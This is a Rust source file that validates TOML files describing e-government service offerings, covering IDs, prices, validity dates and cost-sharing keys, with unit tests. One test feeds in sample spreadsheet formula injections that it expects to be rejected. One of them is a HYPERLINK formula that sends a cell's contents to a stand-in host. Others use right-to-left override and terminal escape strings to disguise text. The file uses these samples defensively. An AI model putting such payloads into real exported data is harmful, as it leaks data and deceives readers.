//! `offerings/*.toml`: one file per offering, with the fields of [`Offering`].
//!
//! Must never fill in what the seller did not write: the file becomes the signed text.
use std::path::Path;

use crate::config::document::{Document, entries};
use crate::domain::offering::Offering;
use crate::domain::reason::Refusal;

/// Most offering files in one folder: twice the OZG services of the catalogue of 2019.
pub const OFFERING_FILES_MAX: usize = 1_200;

/// Reads one offering and checks the rules it must meet on its own.
pub fn read_offering(path: &Path) -> Result<Offering, Refusal> {
    understood(&Document::open(path)?)
}

/// Reads every `.toml` file of the folder, sorted by file name. No two may name the same version of an offering.
pub fn read_offerings(folder: &Path) -> Result<Vec<Offering>, Refusal> {
    let paths = entries(folder, |path| path.extension().is_some_and(|extension| extension == "toml"))?;
    let mut offerings: Vec<Offering> = Vec::new();
    for path in paths {
        let document = Document::open(&path)?;
        let offering = understood(&document)?;
        let same = |other: &Offering| {
            (&other.seller, &other.name, other.version) == (&offering.seller, &offering.name, offering.version)
        };
        if offerings.iter().any(same) {
            return Err(document.invalid("name", "another file has the same seller, name and version"));
        }
        if offerings.len() == OFFERING_FILES_MAX {
            return Err(document.invalid("name", format!("more than {OFFERING_FILES_MAX} files in this folder")));
        }
        offerings.push(offering);
    }
    Ok(offerings)
}

/// Everything that is wrong with an offering file, each with its line; nothing if it can be published.
pub fn faults(path: &Path) -> Result<Vec<Refusal>, Refusal> {
    let document = Document::open(path)?;
    Ok(document.faults(MODEL, |offering| checked(&document, offering)))
}

fn understood(document: &Document) -> Result<Offering, Refusal> {
    let offering: Offering = document.read()?;
    checked(document, &offering)?;
    Ok(offering)
}

fn checked(document: &Document, offering: &Offering) -> Result<(), Refusal> {
    // The document itself is the table, so the field named is the key.
    offering.check().map_err(|refusal| document.invalid(refusal.field("field").unwrap_or("version"), &refusal))
}

/// An offering in which nothing is wrong, beside which each entry of another file is read. It is valid since so early that
/// every end of another one lies behind it.
const MODEL: &str = r#"name = "muster"
version = 1
seller = "muster"
title = "Muster"
description = "Muster"
leika = []
topic = "Muster"
efa_confirmed = false
coverage = ["*"]
maturity = { model = "1.1", level = 0 }
price = [{ item = "operation", due = "per-year", cents = 0 }]
term_years_min = 1
valid_from = "1949-05-24"
source = "Muster"
"#;

#[cfg(test)]
mod tests {
    use super::*;
    use crate::config::document::line_of;
    use crate::config::document::tests::refused;
    use crate::domain::reason::Reason;

    const GOOD: &str = r#"name = "wohngeld"
version = 1
seller = "dataport"
title = "Wohngeld"
description = "Antrag"
leika = ["99107023017000"]
ozg = "10092"
topic = "Arbeit & Ruhestand"
efa_confirmed = true
coverage = ["*"]
maturity = { model = "1.1", level = 3 }
term_years_min = 1
valid_from = "2024-01-01"
source = "Beispiel"

[[price]]
item = "operation"
due = "per-year"
cents = 240_000
"#;

    #[test]
    fn offerings_are_checked() {
        understood(&Document::of(Path::new("a.toml"), GOOD.to_owned())).expect("good");
        for (part, instead, reason, line) in [
            ("99107023017000", "9910702301700", Reason::ConfigInvalid, 6),
            ("\"10092\"", "10092", Reason::ConfigInvalid, 7),
            ("level = 3", "level = 5", Reason::ConfigInvalid, 11),
            ("level = 3", "levle = 3", Reason::ConfigUnknownKey, 11),
            ("[\"*\"]", "[]", Reason::ConfigInvalid, 10),
            ("[\"*\"]", "[\"17\"]", Reason::ConfigInvalid, 10),
            ("version = 1", "version = 0", Reason::ConfigInvalid, 2),
            ("version = 1", "version = \"1\"", Reason::ConfigInvalid, 2),
            ("min = 1", "min = 0", Reason::ConfigInvalid, 12),
            ("source = \"Beispiel\"", "valid_to = \"2023-12-31\"\nsource = \"\"", Reason::ConfigInvalid, 14),
            ("cents = 240_000", "euro = 2_400", Reason::ConfigUnknownKey, 19),
            ("cents = 240_000\n", "", Reason::ConfigInvalid, 16),
            ("item = \"operation\"", "item = \"betrieb\"", Reason::ConfigInvalid, 17),
        ] {
            assert!(GOOD.contains(part), "{part}");
            let document = Document::of(Path::new("a.toml"), GOOD.replace(part, instead));
            refused(understood(&document), reason, &format!("a.toml:{line}"));
        }
    }

    #[test]
    fn the_model_is_in_order_and_names_all_that_is_required() {
        let document = Document::of(Path::new("model.toml"), MODEL.to_owned());
        understood(&document).expect("in order");
        for line in MODEL.lines() {
            let without = MODEL.replace(&format!("{line}\n"), "");
            let faults = faults_of(&without);
            assert!(faults.len() <= 1, "{line}: {faults:?}");
            let other = Document::of(Path::new("a.toml"), without);
            assert_eq!(faults.is_empty(), understood(&other).is_ok(), "{line}");
        }
    }

    fn faults_of(text: &str) -> Vec<(usize, String)> {
        let document = Document::of(Path::new("a.toml"), text.to_owned());
        let found = document.faults(MODEL, |offering| checked(&document, offering));
        found.iter().map(|refusal| (line_of(refusal), refusal.details())).collect()
    }

    #[test]
    fn all_faults_of_a_file_are_told_at_once_each_with_its_line() {
        assert_eq!(faults_of(GOOD), []);
        let more = "\n[[price]]\nitem = \"betrieb\"\ndue = \"per-year\"\ncents = 1\n";
        let text = GOOD.replace("9910702301700", "991070230170").replace("level = 3", "levle = 3");
        let text = text.replace("version = 1\n", "version = 0\n").replace("seller = \"dataport\"\n", "");
        let text = format!("farbe = \"rot\"\n{}{more}", text.replace("cents = 240_000", "cents = -1"));
        let lines: Vec<usize> = faults_of(&text).into_iter().map(|(line, _)| line).collect();
        assert_eq!(lines, [1, 1, 3, 6, 11, 19, 22], "{:?}", faults_of(&text));
        let late = GOOD.replace("source", "valid_to = \"2023-12-31\"\nsource");
        assert_eq!(faults_of(&late).iter().map(|(line, _)| *line).collect::<Vec<_>>(), [14], "only together");
        let broken = faults_of(&GOOD.replace("title = \"Wohngeld\"", "title = Wohngeld"));
        assert_eq!(broken.first().map(|(line, _)| *line), Some(4), "{broken:?}");
    }

    #[test]
    fn titles_that_act_or_hide_are_refused_with_their_line() {
        for (title, said) in [
            (r#"=HYPERLINK(\"http://x.example/?\"&A1;\"Wohngeld\")"#, "TEXT_IS_FORMULA"),
            ("-2+3+cmd", "TEXT_IS_FORMULA"),
            ("@SUM(1+1)", "TEXT_IS_FORMULA"),
            (r"\nabc", "TEXT_HIDES"),
            ("Wohngeld \u{202e}gnubegnarebeis\u{202c}, ab 0,00 €", "TEXT_HIDES"),
            (r"\u001b[31mrot", "TEXT_HIDES"),
            ("Wohngeld ", "TEXT_MISSHAPED"),
            ("", "FIELD_INVALID"),
        ] {
            let text = GOOD.replace("title = \"Wohngeld\"", &format!("title = \"{title}\""));
            let document = Document::of(Path::new("a.toml"), text);
            let refusal = refused(understood(&document), Reason::ConfigInvalid, "a.toml:4");
            assert!(refusal.details().contains(said), "{title}: {refusal}");
            assert!(!refusal.details().contains(['\u{202e}', '\u{1b}', '\n']), "{title}: {refusal}");
        }
        for other in
            ["valid_from = \"20240101\"", "valid_from = 2024-01-01T00:00:00Z", "valid_from = \"+002024-01-01\""]
        {
            let document = Document::of(Path::new("a.toml"), GOOD.replace("valid_from = \"2024-01-01\"", other));
            refused(understood(&document), Reason::ConfigInvalid, "a.toml:13");
        }
    }

    const SHARED: &str = r#"
[[price.terms.split]]
share = 10_000

[price.terms.split.key]
kind = "koenigstein"
year = 2016
source = "GWK"
parties = [{ party = "ST" }, { party = "SH" }]
"#;

    #[test]
    fn terms_are_checked() {
        let good = format!("{GOOD}{SHARED}");
        understood(&Document::of(Path::new("a.toml"), good.clone())).expect("good");
        for (part, instead, reason, said) in [
            ("cents = 240_000", "cents = -1", Reason::ConfigInvalid, "MONEY_INVALID"),
            ("\"koenigstein\"", "\"wuerfel\"", Reason::ConfigInvalid, "DISTRIBUTION_KEY_UNKNOWN"),
            ("year = 2016\n", "", Reason::ConfigInvalid, "DISTRIBUTION_YEAR_UNKNOWN"),
            ("year = 2016", "year = 2017", Reason::ConfigInvalid, "DISTRIBUTION_YEAR_UNKNOWN"),
            ("share = 10_000", "share = 9_999", Reason::ConfigInvalid, "SHARES_DO_NOT_ADD_UP"),
            ("\"SH\"", "\"ST\"", Reason::ConfigInvalid, "DISTRIBUTION_INVALID"),
            ("source = \"GWK\"", "sauce = \"GWK\"", Reason::ConfigUnknownKey, "sauce"),
        ] {
            assert!(good.contains(part), "{part}");
            let document = Document::of(Path::new("a.toml"), good.replace(part, instead));
            let refusal = understood(&document).expect_err("not admissible");
            assert!(refusal.reason == reason && refusal.details().contains(said), "{instead}: {refusal}");
        }
    }

    #[test]
    fn one_version_has_one_file() {
        let folder = tempfile::tempdir().expect("folder");
        std::fs::write(folder.path().join("a.toml"), GOOD).expect("write");
        std::fs::write(folder.path().join("notes.txt"), "not an offering").expect("write");
        std::fs::write(folder.path().join("b.toml"), GOOD.replace("version = 1", "version = 2")).expect("write");
        assert_eq!(read_offerings(folder.path()).expect("two versions").len(), 2);
        let twice = folder.path().join("c.toml");
        std::fs::write(&twice, GOOD).expect("write");
        refused(read_offerings(folder.path()), Reason::ConfigInvalid, &format!("{}:1", twice.display()));
    }
}
